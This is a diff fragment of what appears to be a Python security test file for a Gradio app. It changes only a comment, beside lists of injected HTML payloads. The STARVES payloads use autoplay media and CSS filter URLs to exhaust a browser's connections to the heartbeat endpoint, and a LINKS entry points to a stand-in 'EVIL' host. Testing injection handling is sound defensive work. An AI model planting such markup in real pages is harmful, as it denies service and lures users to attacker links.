@@ -159,12 +159,12 @@ ASKS = [
     "<input type=file><input type=color><input type=range>",
 ]
 
+# Each is said eight times: a browser makes six connections to one server, and no more.
 STARVES = [
     "<video autoplay src=/gradio_api/heartbeat/NUMBER></video>",
     "<audio autoplay src=/gradio_api/heartbeat/NUMBER></audio>",
     "<p style='filter:url(/gradio_api/heartbeat/NUMBER#x)'>x</p>",
 ]
-"""Each is said eight times: a browser makes six connections to one server, and no more."""
 
 LINKS = {
     "Markdown": "[Read this](EVIL/read)",
